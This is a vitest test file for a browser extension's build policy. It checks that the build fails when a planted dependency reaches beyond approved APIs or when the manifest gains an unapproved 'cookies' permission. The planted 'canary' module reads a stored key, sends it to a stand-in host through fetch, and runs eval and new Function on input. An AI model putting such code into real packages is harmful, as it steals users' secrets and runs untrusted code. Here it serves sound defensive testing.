import { execFile } from 'node:child_process'
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { copyClean } from '../support/clean-copy.ts'
import { ROOT } from './built-extension.ts'

/** Touches all at once what a dependency of ours has no business with. */
const CANARY = `
  export async function sing(text) {
    const { key } = await chrome.storage.local.get('key')
    await fetch('https://canary.test/?' + key)
    new Function(text)()
    return eval(text)
  }`

/** A whole build, on a machine that has other things to do. */
const BUILD_MS = 240_000

let copy = ''

beforeEach(() => {
  copy = mkdtempSync(join(tmpdir(), 'valetkey-policy-'))
  copyClean(ROOT, copy)
})

afterEach(() => {
  rmSync(copy, { recursive: true, force: true })
})

it(
  'C110: nothing is built with a dependency that reaches further than was approved',
  { timeout: BUILD_MS },
  async () => {
    const folder = join(copy, 'node_modules', 'valetkey-canary')
    mkdirSync(folder)
    writeFileSync(
      join(folder, 'package.json'),
      '{"name":"valetkey-canary","version":"1.0.0","type":"module","exports":"./index.js"}',
    )
    writeFileSync(join(folder, 'index.js'), CANARY)
    appendFileSync(
      join(copy, 'extension', 'background', 'start.ts'),
      // The builder runs this file too, to read what it states: there it must not sing.
      "\nimport { sing } from 'valetkey-canary'\nReflect.set(globalThis, 'sing', sing)\n",
    )

    const { code, words } = await build()

    expect(words).toContain(
      'valetkey-canary is new in the bundle, and touches Function, chrome, eval, fetch.',
    )
    expect(words).toContain('write it into scripts/policy/approved-packages.json and say why')
    expect(code).not.toBe(0)
    expect(existsSync(join(copy, '.output', 'chrome-mv3', 'background.js'))).toBe(false)
  },
)

it(
  'C110: nothing is built with a manifest that asks for more than was approved',
  { timeout: BUILD_MS },
  async () => {
    const file = join(copy, 'wxt.config.ts')
    const config = readFileSync(file, 'utf8')
    expect(config).toContain("      'storage',\n")
    writeFileSync(
      file,
      config.replace("      'storage',\n", "      'storage',\n      'cookies',\n"),
    )

    const { code, words } = await build()

    expect(words).toContain('permissions: cookies')
    expect(words).toContain(
      'cp .cache/policy/manifest.chrome.json scripts/policy/approved-manifest.chrome.json',
    )
    expect(code).not.toBe(0)
    expect(existsSync(join(copy, '.output', 'chrome-mv3', 'manifest.json'))).toBe(false)
  },
)

async function build(): Promise<{ code: number; words: string }> {
  const wxt = join(copy, 'node_modules', 'wxt', 'bin', 'wxt.mjs')
  const env = { PATH: process.env['PATH'], HOME: copy, NO_COLOR: '1' }
  try {
    const { stdout } = await promisify(execFile)(process.execPath, [wxt, 'build'], {
      cwd: copy,
      env,
    })
    return { code: 0, words: stdout }
  } catch (error) {
    const { code, stdout, stderr } = error as { code: number; stdout: string; stderr: string }
    return { code, words: stdout + stderr }
  }
}
